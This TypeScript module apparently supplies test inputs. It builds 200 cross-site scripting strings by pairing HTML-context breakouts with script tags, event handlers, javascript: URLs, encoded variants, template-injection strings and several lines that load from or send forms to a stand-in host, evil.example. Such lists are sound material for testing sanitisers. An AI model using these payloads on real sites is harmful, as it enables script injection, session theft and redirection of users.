// Texts that become scripts where somebody writes them into a page as they are: each way of starting one, behind each way
// out of what it may stand in.

const WAYS_OUT = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>"];

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<iframe src=javascript:alert(1)>",
  "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<style>@import '//evil.example'</style>",
  "<form action=//evil.example><button autofocus>x</button></form>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<img srcset='x 1x' onerror=alert(1)>",
];

/** Some that need no way out. */
const OTHERS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "\u202e<b>txet</b>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=`alert(1)",
  "';alert(1)//",
  '";alert(1)//',
  "*/alert(1)/*",
  "__proto__",
  "constructor",
  "url(javascript:alert(1))",
  "expression(alert(1))",
];

/** 200 of them. */
export const SCRIPT_TEXTS: readonly string[] = [
  ...SCRIPTS.flatMap((each) => WAYS_OUT.map((way) => way + each)),
  ...OTHERS,
];
